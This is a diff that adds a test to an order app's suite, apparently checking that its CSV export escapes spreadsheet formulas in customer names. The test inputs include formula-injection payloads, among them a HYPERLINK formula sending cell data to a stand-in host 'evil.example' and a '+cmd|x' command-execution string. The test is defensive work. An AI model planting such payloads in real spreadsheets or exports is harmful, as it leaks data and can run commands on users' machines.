@@ -44,6 +44,24 @@ describe('the order list', () => {
 	})
 })
 
+describe('the CSV export and formulas', () => {
+	test("a customer's name a spreadsheet would run is written as text; amounts and days stay numbers", async () => {
+		const order = await deliverableOrder(services(), staff)
+		const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '=1+2', '+cmd|x', '-2+3', '@SUM(A1)', '\tTAB']
+		await copiesOfOrder(db(), order.id, names.length, 'FORMULA')
+		for (const [n, name] of names.entries()) {
+			await db()
+				.update(orders)
+				.set({ customer: { ...order.customer, name, kind: 'private', companyName: null } })
+				.where(eq(orders.reference, `FORMULA-${String(n).padStart(5, '0')}`))
+		}
+		const rows = await csvLines(exportOrdersCsv(db(), filter({ q: 'FORMULA-' })))
+		const customers = rows.slice(1).map((row) => row.split(';')[4]!)
+		expect(customers.sort()).toEqual(["'+cmd|x", "'-2+3", "'=1+2", '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"', "'@SUM(A1)", "'\tTAB"].sort())
+		for (const row of rows.slice(1)) expect(row).toMatch(/;-?\d+;.*;\d+\.\d{2}$/)
+	})
+})
+
 describe('the delivery mail', () => {
 	test('goes out on delivery and again when staff send it, noted for staff only and in the audit log', async () => {
 		const order = await deliverableOrder(services(), staff)
